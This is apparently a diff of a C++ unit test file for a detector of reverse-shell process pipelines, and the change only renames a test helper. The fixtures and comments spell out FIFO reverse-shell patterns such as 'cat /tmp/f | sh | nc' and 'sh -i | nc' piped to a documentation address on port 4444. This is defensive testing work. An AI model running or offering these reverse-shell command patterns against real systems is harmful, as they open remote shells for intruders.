@@ -15,7 +15,7 @@ using Kind = Descriptor::Kind;
 
 namespace {
 
-LiveProcess process(int pid, std::vector<std::string> argv, std::vector<Descriptor> descriptors) {
+LiveProcess a_process(int pid, std::vector<std::string> argv, std::vector<Descriptor> descriptors) {
     LiveProcess live{.pid = event::Pid{pid}, .ppid = event::Pid{100}};
     live.exe = History::exe_of(argv.front());
     live.argv = std::move(argv);
@@ -35,10 +35,10 @@ Descriptor connection(int fd) {
 
 // cat /tmp/f | SHELL | nc >/tmp/f
 std::vector<LiveProcess> pipeline(std::vector<std::string> shell) {
-    return {process(102, {"cat", "/tmp/f"}, {fifo_end(3, true, false), pipe_end(1, 11, true)}),
-            process(103, std::move(shell),
+    return {a_process(102, {"cat", "/tmp/f"}, {fifo_end(3, true, false), pipe_end(1, 11, true)}),
+            a_process(103, std::move(shell),
                     {pipe_end(0, 11, false), pipe_end(1, 12, true), pipe_end(2, 12, true)}),
-            process(104, {"nc", "192.0.2.1", "4444"},
+            a_process(104, {"nc", "192.0.2.1", "4444"},
                     {pipe_end(0, 12, false), fifo_end(1, false, true), connection(3)})};
 }
 
@@ -90,8 +90,8 @@ BOOST_AUTO_TEST_CASE(a_relay_has_no_shell) {
 BOOST_AUTO_TEST_CASE(a_descriptor_that_all_inherited_joins_nobody) {
     // exec 3<>/tmp/f; sh -i | nc: both have the FIFO at 3, neither uses it.
     const std::vector<LiveProcess> processes{
-        process(103, {"sh", "-i"}, {fifo_end(3, true, true), pipe_end(1, 12, true)}),
-        process(104, {"nc", "192.0.2.1", "4444"},
+        a_process(103, {"sh", "-i"}, {fifo_end(3, true, true), pipe_end(1, 12, true)}),
+        a_process(104, {"nc", "192.0.2.1", "4444"},
                 {pipe_end(0, 12, false), fifo_end(3, true, true), connection(4)})};
     BOOST_TEST(!live_circle(processes).has_value());
 }
@@ -113,8 +113,8 @@ BOOST_AUTO_TEST_CASE(what_is_seen_open_confirms_the_incident_that_asked) {
     for (const auto& inquiry : detector.inquiries())
         if (inquiry.what == detect::Inquiry::What::incident) incident = inquiry.incident;
     BOOST_REQUIRE(!incident.empty());
-    auto loop = process(103, {"bash", "job.sh"}, {fifo_end(0, true, false), pipe_end(1, 12, true)});
-    auto tool = process(104, {"nc", "192.0.2.1", "4444"},
+    auto loop = a_process(103, {"bash", "job.sh"}, {fifo_end(0, true, false), pipe_end(1, 12, true)});
+    auto tool = a_process(104, {"nc", "192.0.2.1", "4444"},
                         {pipe_end(0, 12, false), fifo_end(1, false, true), connection(3)});
     loop.started = tool.started = history.time;
     const auto alerts =
